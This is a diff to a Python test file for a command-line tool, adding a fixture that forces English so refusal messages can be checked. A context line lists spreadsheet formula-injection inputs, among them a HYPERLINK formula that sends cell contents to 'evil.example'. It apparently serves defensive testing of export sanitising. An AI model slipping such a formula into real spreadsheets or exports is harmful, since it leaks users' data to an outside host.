@@ -31,6 +31,12 @@ AT = datetime(2026, 11, 23, 2, 0, tzinfo=UTC)
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+86 138 0000 0000", "-1+1", "@SUM(A1)", "\tTAB", "\rCR"]
 
 
+@pytest.fixture(autouse=True)
+def english(monkeypatch: pytest.MonkeyPatch) -> None:
+    """The refusals below are asserted in English (tests/cli/test_language.py: the other languages)."""
+    monkeypatch.setenv("DUTYDESK_LANGUAGE", "en")
+
+
 def seed(url: str, situations: list[str], *, reporter: str = "张三", notes: int = 0) -> None:
     """A site and one incident per situation (numbers 1..n); ``notes`` handling notes and photos on each."""
 
